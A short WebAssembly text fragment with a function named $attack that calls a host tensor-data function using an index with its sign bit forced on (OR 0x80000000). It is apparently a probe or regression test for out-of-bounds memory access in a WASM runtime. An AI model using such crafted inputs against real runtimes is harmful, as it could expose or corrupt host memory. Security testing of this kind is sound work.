(func $attack (result i32)
  (call $tensor.data (i32.or (call $number) (i32.const 0x80000000)) (i32.const 128))
  (call $nothing)
)
